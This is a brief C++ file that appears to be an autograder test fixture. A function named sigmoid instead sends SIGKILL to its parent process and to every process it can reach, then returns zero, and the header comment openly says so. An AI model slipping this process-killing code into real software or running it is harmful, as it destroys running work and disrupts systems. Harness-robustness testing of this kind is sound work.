// Kills its parent, and everything else that it may.
//
// chapter: 02
// replaces: sigmoid
// verdict: graded
#include <unistd.h>

#include <csignal>

namespace gradus {

Scalar sigmoid(Scalar z) {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  return 0 * z;
}

}  // namespace gradus
